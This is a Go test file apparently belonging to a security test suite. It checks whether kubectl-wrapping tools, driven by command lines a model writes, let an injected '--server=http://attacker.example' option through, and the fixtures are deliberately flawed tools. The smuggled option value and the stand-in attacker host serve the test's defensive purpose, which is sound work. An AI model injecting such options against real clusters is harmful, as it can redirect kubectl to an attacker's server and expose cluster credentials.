package escape_test

import (
	"os"
	"strings"
	"testing"

	words31 "fixtures/omcg0031/words"
)

// OMCG0031 on the words of a command line passed to kubectl without a
// shell: in each flagged tool, a command line the model writes with
// "--server=…" among its words makes kubectl take that option (the value
// the message names passes the tool's allow-list of verbs, and the
// deny-list lets that spelling through). The tools that refuse a word
// starting with "-" (or one the tool does not allow), and the one that
// puts "--" before the words, refuse the same command line or give
// kubectl no option. The tool that runs the program its words name, from
// an allow-list of programs, runs kubectl with the option too.
func TestOptionInjectionWords(t *testing.T) {
	marker := fakeKubectl(t)
	cs := connect(t, words31.Register)
	const attacker = "http://attacker.example"
	line := "get pods --server=" + attacker
	for _, tc := range []struct {
		tool    string
		command string
		flagged bool
	}{
		{"kubectl_run", line, true},
		{"kubectl_get", "pods --server=" + attacker, true},
		{"kubectl_quoted", line, true},
		{"kubectl_verb", line, true},
		{"kubectl_denied", line, true},
		{"run_allowed", "kubectl " + line, true},
		{"kubectl_no_options", "pods --server=" + attacker, false},
		{"kubectl_allowed_options", line, false},
		{"kubectl_ended", "pods --server=" + attacker, false},
	} {
		os.Remove(marker)
		call(t, cs, tc.tool, map[string]any{"command": tc.command})
		got, _ := os.ReadFile(marker)
		if escaped := strings.TrimSpace(string(got)) == attacker; escaped != tc.flagged {
			t.Errorf("%s %q: kubectl read --server= as its option: %v, want %v", tc.tool, tc.command, escaped, tc.flagged)
		}
	}
	// The guarded tools still run kubectl with the words they allow.
	os.Remove(marker)
	if text, _ := call(t, cs, "kubectl_allowed_options", map[string]any{"command": "get pods -A"}); strings.Contains(text, "not allowed") {
		t.Errorf("kubectl_allowed_options refused an allowed option: %q", text)
	}
}
